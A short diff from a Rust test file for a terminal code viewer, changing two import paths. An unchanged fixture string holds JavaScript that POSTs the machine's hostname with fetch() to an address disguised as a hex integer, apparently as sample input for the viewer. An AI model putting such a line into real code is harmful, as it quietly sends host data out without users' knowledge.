@@ -4,8 +4,8 @@ use cerebro::syntax::Doc;
 use cerebro::tui::app::Pane;
 use cerebro::tui::app::view::View;
 
-use crate::case;
-use crate::harness::{Bench, Given};
+use super::case;
+use super::harness::{Bench, Given};
 
 const CODE: &str = "// see https://docs.example.org/guide\nconst os = require('os');\n\
     fetch('http://0xcb007107/in', { method: 'POST', body: os.hostname() });\n\
